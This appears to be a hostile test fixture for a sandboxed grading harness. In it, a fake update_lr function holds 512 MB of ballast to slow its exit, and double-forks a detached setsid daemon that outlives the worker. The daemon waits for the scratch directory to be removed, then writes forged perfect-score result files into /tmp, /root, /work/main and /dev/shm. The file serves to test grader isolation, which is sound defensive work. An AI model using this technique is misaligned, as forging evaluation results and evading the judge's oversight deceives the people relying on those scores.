"""The setsid daemon of setsid_daemon_empty_env, beside half a gigabyte the worker holds, so
the worker's exit is slow: while the kernel frees that memory the worker's environment (its
token) already reads empty, yet its pid namespace is not killed before the exit ends.  A
judge that took an unreadable token for "gone" removed the scratch directory inside that
window, and the daemon, watching for exactly that, wrote forged results (seen in CI).

expect: update_lr failed error
levels: bubblewrap namespaces
"""

import os

import numpy as np


def update_lr(learning_rate0, epoch_num, decay_rate):
    script = (  # a module-level constant would not be loaded: only imports and defs are
        'here=$(pwd); i=0; while [ -d "$here" ] && [ $i -lt 3000 ]; do sleep 0.01; i=$((i+1)); done; '
        "for d in /tmp /root /work/main /dev/shm; do "
        "echo '{\"score\": 100}' > $d/dls-hostile-slow-exit-results.json; done"
    )
    if not hasattr(update_lr, "ballast"):
        update_lr.ballast = np.ones(64_000_000)  # 512 MB, every page touched
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/bin/sh", ["sh", "-c", script], {})
        os._exit(0)
    return 0.0
